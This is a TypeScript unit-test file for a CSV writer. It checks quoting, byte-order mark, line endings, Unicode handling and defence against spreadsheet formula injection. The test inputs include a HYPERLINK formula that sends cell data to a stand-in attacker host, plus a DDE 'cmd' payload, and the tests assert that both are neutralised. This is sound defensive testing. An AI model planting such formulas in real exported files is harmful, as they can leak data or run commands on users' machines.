import { describe, expect, it } from 'vitest';
import { CSV_BOM, toCsv } from '.';

/** The records of a CSV without its BOM (our cells hold no line breaks unless a test says so). */
const lines = (csv: string) => csv.slice(CSV_BOM.length).split('\r\n');

describe('toCsv, the one CSV writer', () => {
  it('starts with a UTF-8 byte-order mark and ends every record with CRLF', () => {
    const csv = toCsv(['a', 'b'], [['x', 1]]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(lines(csv)).toEqual(['a,b', 'x,1', '']);
  });

  it.each(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])('neutralises a text cell starting with %j by a leading quote', (first) => {
    const payload = `${first}HYPERLINK("http://evil.example/?"&A1,"click")`;
    const csv = toCsv(['name'], [[payload]]);
    const cell = lines(csv)[1];
    // Quoted (the payload holds a quote and, for \r, a line break), with ' as the first character inside.
    expect(cell.startsWith(`"'${first}`)).toBe(true);
    expect(csv).not.toMatch(new RegExp(`(^|,|\\r\\n|${CSV_BOM})["]?[${first === '-' ? '\\-' : first === '+' ? '\\+' : first}]HYPERLINK`));
  });

  it('neutralises the classic payloads without touching their text', () => {
    const csv = toCsv(['cell'], [['=1+1'], ['+94771234567'], ['-2+3'], ['@SUM(A1:A9)'], ["=cmd|' /C calc'!A0"]]);
    expect(lines(csv).slice(1, -1)).toEqual(["'=1+1", "'+94771234567", "'-2+3", "'@SUM(A1:A9)", `'=cmd|' /C calc'!A0`]);
  });

  it('writes a number cell as data: -5 stays -5, while the text "-5" is prefixed (decision: numbers are never formulas)', () => {
    expect(lines(toCsv(['n', 'text'], [[-5, '-5'], [1.5, '1.5'], [0, '']]))).toEqual(['n,text', "-5,'-5", '1.5,1.5', '0,', '']);
  });

  it('leaves text that only contains the characters later alone', () => {
    expect(lines(toCsv(['x'], [['a=b'], ['x-y'], ['mail@example.lk'], ['1+1']]))).toEqual(['x', 'a=b', 'x-y', 'mail@example.lk', '1+1', '']);
  });

  it('quotes and escapes commas, quotes and line breaks (RFC 4180)', () => {
    const csv = toCsv(['a', 'b', 'c'], [['a, "b"', 'line 1\nline 2', 'cr\r\nlf']]);
    expect(csv.slice(CSV_BOM.length)).toBe('a,b,c\r\n"a, ""b""","line 1\nline 2","cr\r\nlf"\r\n');
  });

  it('keeps Sinhala and Tamil (with their joiners) exactly as they are', () => {
    const sinhala = 'ශ්‍රී ලංකාව';
    const tamil = 'யாழ்ப்பாணம்';
    expect(lines(toCsv(['name', 'value'], [[sinhala, 3], [tamil, null]]))).toEqual(['name,value', `${sinhala},3`, `${tamil},`, '']);
  });

  it('writes empty cells for null and undefined, true/false as words and dates as ISO text', () => {
    const when = new Date('2026-11-27T06:00:00.000Z');
    expect(lines(toCsv(['a', 'b', 'c', 'd', 'e'], [[null, undefined, true, false, when]]))[1]).toBe(',,true,false,2026-11-27T06:00:00.000Z');
  });

  it('neutralises the header too', () => {
    expect(lines(toCsv(['=evil'], []))[0]).toBe("'=evil");
  });
});
